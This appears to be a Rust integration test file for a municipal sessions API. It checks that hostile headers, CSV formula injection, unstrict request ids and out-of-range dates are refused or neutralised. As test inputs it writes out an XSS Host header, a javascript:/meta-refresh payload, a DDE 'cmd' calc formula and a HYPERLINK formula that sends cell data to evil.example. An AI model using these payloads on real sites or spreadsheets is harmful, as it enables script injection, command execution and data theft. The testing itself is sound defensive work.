//! Input from a hostile client is inert: request headers never reach a link
//! unchecked, CSV exports carry no formula, request ids are strict, and a
//! date outside 1900–2100 is refused everywhere, on both databases.

use poem::http::Method;
use serde_json::json;

use crate::helpers::fixtures::session_json;
use crate::helpers::{assert_problem, test_settings, Settings, TestApp};

/// Nothing from `Host` or `X-Forwarded-Proto` reaches a link unchecked
/// (issue 31, item 3): a Host that is not an authority is a 400, an
/// untrusted X-Forwarded-Proto is ignored, a trusted one must be http(s),
/// and with PUBLIC_BASE_URL the headers are not read at all.
#[tokio::test]
async fn request_headers_never_reach_a_link_unchecked() {
    let app = TestApp::with_demo_sessions(200, 5).await;
    let evil_host = "evil.example\"><script>alert(1)</script>";
    for path in ["/", "/v1/sessions?limit=1", "/v1/catalog"] {
        let reply = app.get_with(path, &[("Host", evil_host)]).await;
        reply.assert_status(poem::http::StatusCode::BAD_REQUEST);
        assert!(!reply.text().contains("<script>alert"), "{path}");
    }
    let proto = "javascript:alert(1)//\"><meta http-equiv=\"refresh\" content=\"0;url=//evil\">";
    let page = app.get_with("/", &[("X-Forwarded-Proto", proto)]).await;
    page.assert_status_is_ok();
    assert!(!page.text().contains("javascript:") && !page.text().contains("http-equiv"));
    let list = app
        .get_with("/v1/sessions?limit=1", &[("X-Forwarded-Proto", proto)])
        .await
        .ok_json();
    assert!(list["next"]
        .as_str()
        .unwrap()
        .starts_with("http://localhost/v1/sessions?"));

    // Behind a trusted proxy the scheme is read, and only http or https.
    let proxied = TestApp::with_settings(Settings {
        trust_forwarded_for: true,
        ..test_settings()
    })
    .await;
    let reply = proxied
        .get_with("/v1/sessions.ics", &[("X-Forwarded-Proto", proto)])
        .await;
    reply.assert_status(poem::http::StatusCode::BAD_REQUEST);
    let reply = proxied
        .get_with("/", &[("X-Forwarded-Proto", "https")])
        .await;
    assert!(reply.text().contains(r#"href="https://localhost/en/""#));

    // With PUBLIC_BASE_URL, the headers are not read for links at all.
    let fixed = TestApp::with_settings(Settings {
        public_base_url: Some("https://api.example.org".into()),
        ..test_settings()
    })
    .await;
    let reply = fixed.get_with("/", &[("Host", evil_host)]).await;
    reply.assert_status_is_ok();
    assert!(reply
        .text()
        .contains(r#"href="https://api.example.org/en/""#));
    assert!(!reply.text().contains("evil.example"));
}

/// Exports are spreadsheet-safe (issue 31, item 4): text a spreadsheet would
/// run as a formula is neutralised in CSV, and a client's X-Request-Id is
/// stored only in a strict form.
#[tokio::test]
async fn csv_exports_do_not_carry_formulas_and_request_ids_are_strict() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    let admin = app.key(None).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let mut body = session_json("=cmd|' /C calc'!A0", "2025-03-01");
    body["provider"] = serde_json::json!(formula);
    body["area"] = serde_json::json!("-2+3");
    let uri = "/v1/municipalities/1980/sessions/%3Dcmd%7C'%20%2FC%20calc'!A0";
    let reply = app
        .request_with_body(
            Method::PUT,
            uri,
            &[
                ("Authorization", &format!("Bearer {key}")),
                ("Content-Type", "application/json"),
                ("X-Request-Id", "=cmd|'/C calc'!A0"),
            ],
            body.to_string().into(),
        )
        .await;
    assert_eq!(reply.status.as_u16(), 201, "{}", reply.text());
    assert_ne!(
        reply.header("x-request-id"),
        Some("=cmd|'/C calc'!A0"),
        "replaced, not echoed"
    );

    let csv = app
        .get("/v1/sessions?municipality=1980&format=csv")
        .await
        .text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("provider"), format!("'{formula}"));
    assert_eq!(cell("external_id"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("area"), "'-2+3");
    // Numbers stay numbers.
    assert_eq!(cell("enrolled"), "12");
    // The JSON is the data as written.
    let json = app.get("/v1/sessions?municipality=1980").await.ok_json();
    assert_eq!(json["data"][0]["provider"], formula);

    let audit = app.audit(Some(&admin), "format=csv", &[]).await.text();
    assert!(
        !audit.contains("=cmd|'/C calc'!A0,") && !audit.contains(",=cmd"),
        "{audit}"
    );
    assert!(
        !audit
            .lines()
            .any(|l| l.split(',').any(|f| f.starts_with('='))),
        "{audit}"
    );
}

/// Year 0 was a 500 on PostgreSQL (SQLite stored it): every date the API
/// takes is within 1900–2100, refused field by field (422) in a body and as
/// a 400 naming the parameter in a query, on both databases alike.
#[tokio::test]
async fn dates_outside_1900_to_2100_are_refused_everywhere_on_both_databases() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    for date in ["0000-01-01", "1899-12-31", "2101-01-01"] {
        let reply = app
            .put_session(Some(&key), "1980", "Y0", &session_json("Y0", date))
            .await;
        let problem = assert_problem(&reply, 422, "/v1/municipalities/1980/sessions/Y0");
        let errors = problem["errors"].to_string();
        assert!(errors.contains("/start_date"), "{errors}");
        assert!(errors.contains("1900 to 2100"), "{errors}");
        let mut ended = session_json("Y0", "2025-03-01");
        ended["end_date"] = json!(date);
        let reply = app.put_session(Some(&key), "1980", "Y0", &ended).await;
        let problem = assert_problem(&reply, 422, "/v1/municipalities/1980/sessions/Y0");
        assert!(problem["errors"].to_string().contains("/end_date"));

        let listed = app.get(&format!("/v1/sessions?start_from={date}")).await;
        let problem = assert_problem(&listed, 400, "/v1/sessions");
        assert!(
            problem["detail"].to_string().contains("start_from"),
            "{problem}"
        );
        let reach = app.get(&format!("/v1/reach?from={date}")).await;
        assert_eq!(reach.status.as_u16(), 400, "{}", reach.text());
    }
    // The bounds themselves are dates: created, then moved.
    for (date, status) in [("1900-01-01", 201), ("2100-12-31", 200)] {
        let reply = app
            .put_session(Some(&key), "1980", "Y1", &session_json("Y1", date))
            .await;
        assert_eq!(reply.status.as_u16(), status, "{date}: {}", reply.text());
    }
    let stored = app
        .get("/v1/sessions?municipality=1980&format=ndjson")
        .await
        .ndjson();
    assert_eq!(stored.len(), 1, "nothing refused was written");
    assert_eq!(stored[0]["start_date"], "2100-12-31");
}
